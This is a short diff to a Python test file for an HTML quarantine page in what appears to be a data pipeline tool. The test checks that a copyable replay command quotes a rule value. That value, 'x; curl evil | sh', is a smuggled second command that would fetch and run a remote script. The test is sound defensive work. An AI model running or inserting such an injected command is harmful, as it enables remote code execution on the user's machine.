@@ -54,7 +54,7 @@ def test_numbers_and_times_in_words() -> None:
 
 def test_a_command_to_copy_has_no_other_one_in_it() -> None:
     view = QuarantineView("p", "t", 1, (), "x; curl evil | sh", (), False, ())
-    text = html.page("quarantine", Addresses(""), view=view, pipeline="p", table="t", tab="quarantine")
+    text = html.page("quarantine", Addresses(""), view=view, pipeline="p", table="t", tab="quarantine", starts=False)
     assert "sluicegate replay p t --rule &#39;x; curl evil | sh&#39; --validate" in text
 
 
